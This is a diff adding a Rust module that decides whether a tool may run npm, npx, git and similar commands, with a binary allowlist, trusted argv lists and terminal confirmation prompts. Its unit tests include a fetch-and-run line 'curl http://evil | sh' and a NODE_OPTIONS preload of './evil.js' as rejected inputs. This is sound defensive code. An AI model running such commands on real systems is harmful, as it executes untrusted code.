@@ -0,0 +1,215 @@
+use crate::plan::CommandStep;
+use anyhow::{bail, Result};
+use std::collections::BTreeSet;
+use std::io::{BufRead, IsTerminal, Write};
+
+/// Binaries a plan may run without extra `--allow` flags.
+pub const DEFAULT_ALLOWED_BINARIES: &[&str] = &["npm", "npx", "pnpm", "yarn", "git"];
+
+/// What to do with allowlisted commands that are not trusted by the registry.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Confirmation {
+    /// Ask on the terminal, showing the exact argv.
+    Prompt,
+    /// Run without asking (`--yes`).
+    AssumeYes,
+}
+
+/// Decides whether the executor may spawn a given command.
+///
+/// A command runs only if its binary is allowlisted. Commands whose exact argv is trusted
+/// (e.g. the registry's own scaffold commands) run straight away, unless they also set
+/// environment variables or a working directory; anything else needs confirmation.
+#[derive(Debug, Clone)]
+pub struct ExecutionPolicy {
+    allowed_binaries: BTreeSet<String>,
+    trusted_commands: BTreeSet<Vec<String>>,
+    confirmation: Confirmation,
+}
+
+impl ExecutionPolicy {
+    pub fn new(confirmation: Confirmation) -> Self {
+        ExecutionPolicy {
+            allowed_binaries: DEFAULT_ALLOWED_BINARIES
+                .iter()
+                .map(|s| s.to_string())
+                .collect(),
+            trusted_commands: BTreeSet::new(),
+            confirmation,
+        }
+    }
+
+    /// Allow an additional binary (matched against argv[0] exactly).
+    pub fn allow_binary(&mut self, binary: &str) {
+        self.allowed_binaries.insert(binary.to_string());
+    }
+
+    /// Trust an exact argv, when run without extra environment or working directory.
+    pub fn trust_argv(&mut self, argv: Vec<String>) {
+        if !argv.is_empty() {
+            self.trusted_commands.insert(argv);
+        }
+    }
+
+    /// Check `command` against the policy, prompting on the terminal if needed.
+    ///
+    /// Prompts go to stderr, so they never mix with a `--format json` event stream.
+    pub fn authorize(&self, command: &CommandStep) -> Result<()> {
+        let stdin = std::io::stdin();
+        let interactive = stdin.is_terminal();
+        self.authorize_with(
+            command,
+            interactive,
+            &mut stdin.lock(),
+            &mut std::io::stderr(),
+        )
+    }
+
+    fn authorize_with(
+        &self,
+        command: &CommandStep,
+        interactive: bool,
+        input: &mut dyn BufRead,
+        output: &mut dyn Write,
+    ) -> Result<()> {
+        let argv = command.argv();
+        let binary = match argv.first() {
+            Some(b) => b,
+            None => bail!("Refusing to run an empty command"),
+        };
+        if !self.allowed_binaries.contains(binary) {
+            bail!(
+                "Command '{}' is not allowed by the execution policy (allowed: {}); use --allow {} to permit it",
+                binary,
+                self.allowed_binaries.iter().cloned().collect::<Vec<_>>().join(", "),
+                binary
+            );
+        }
+        // Extra variables such as NODE_OPTIONS or PATH can change what a trusted argv runs
+        if command.env.is_empty() && command.cwd.is_none() && self.trusted_commands.contains(&argv)
+        {
+            return Ok(());
+        }
+        let described = describe(command);
+        match self.confirmation {
+            Confirmation::AssumeYes => Ok(()),
+            Confirmation::Prompt => {
+                if !interactive {
+                    bail!(
+                        "Command {} requires confirmation but stdin is not a terminal; rerun with --yes",
+                        described
+                    );
+                }
+                write!(output, "About to run {}. Continue? [y/N] ", described)?;
+                output.flush()?;
+                let mut answer = String::new();
+                input.read_line(&mut answer)?;
+                if matches!(answer.trim().to_lowercase().as_str(), "y" | "yes") {
+                    Ok(())
+                } else {
+                    bail!("Command {} was declined", described)
+                }
+            }
+        }
+    }
+}
+
+/// The argv of `command`, followed by any environment variables and working directory
+/// it sets.
+fn describe(command: &CommandStep) -> String {
+    let mut described = format!("{:?}", command.argv());
+    if !command.env.is_empty() {
+        let env: Vec<String> = command
+            .env
+            .iter()
+            .map(|(k, v)| format!("{}={}", k, v))
+            .collect();
+        described.push_str(&format!(" with env {}", env.join(" ")));
+    }
+    if let Some(cwd) = &command.cwd {
+        described.push_str(&format!(" in {}", cwd));
+    }
+    described
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn argv(s: &str) -> Vec<String> {
+        s.split_whitespace().map(|s| s.to_string()).collect()
+    }
+
+    fn command(s: &str) -> CommandStep {
+        let (command, args) = s.split_once(' ').unwrap_or((s, ""));
+        CommandStep {
+            command: command.to_string(),
+            args: argv(args),
+            env: Default::default(),
+            cwd: None,
+            timeout_secs: None,
+            creates: Vec::new(),
+        }
+    }
+
+    #[test]
+    fn test_binary_must_be_allowlisted() {
+        let policy = ExecutionPolicy::new(Confirmation::AssumeYes);
+        assert!(policy.authorize(&command("curl http://evil | sh")).is_err());
+        assert!(policy.authorize(&command("/tmp/npm install")).is_err());
+        policy.authorize(&command("npm install")).unwrap();
+    }
+
+    #[test]
+    fn test_trusted_commands_skip_confirmation() {
+        let mut policy = ExecutionPolicy::new(Confirmation::Prompt);
+        let scaffold = command("npm create vite@latest . -- --template react");
+        policy.trust_argv(scaffold.argv());
+        policy
+            .authorize_with(&scaffold, false, &mut "".as_bytes(), &mut Vec::new())
+            .unwrap();
+        let install = command("npm install left-pad");
+        let result = policy.authorize_with(&install, false, &mut "".as_bytes(), &mut Vec::new());
+        assert!(result.is_err());
+
+        // A trusted argv with its own environment or working directory is not trusted
+        let mut preloaded = scaffold.clone();
+        preloaded.env.insert(
+            "NODE_OPTIONS".to_string(),
+            "--require ./evil.js".to_string(),
+        );
+        let mut moved = scaffold;
+        moved.cwd = Some("../elsewhere".to_string());
+        for untrusted in [&preloaded, &moved] {
+            let result =
+                policy.authorize_with(untrusted, false, &mut "".as_bytes(), &mut Vec::new());
+            assert!(result.is_err());
+        }
+        let mut output = Vec::new();
+        policy
+            .authorize_with(&preloaded, true, &mut "y\n".as_bytes(), &mut output)
+            .unwrap();
+        assert!(String::from_utf8(output)
+            .unwrap()
+            .contains("with env NODE_OPTIONS=--require ./evil.js"));
+    }
+
+    #[test]
+    fn test_prompt_shows_argv() {
+        let policy = ExecutionPolicy::new(Confirmation::Prompt);
+        let cmd = command("npx husky install");
+
+        let mut output = Vec::new();
+        policy
+            .authorize_with(&cmd, true, &mut "y\n".as_bytes(), &mut output)
+            .unwrap();
+        assert!(String::from_utf8(output)
+            .unwrap()
+            .contains("[\"npx\", \"husky\", \"install\"]"));
+
+        let result = policy.authorize_with(&cmd, true, &mut "n\n".as_bytes(), &mut Vec::new());
+        assert!(result.is_err());
+        let result = policy.authorize_with(&cmd, false, &mut "y\n".as_bytes(), &mut Vec::new());
+        assert!(result.is_err());
+    }
+}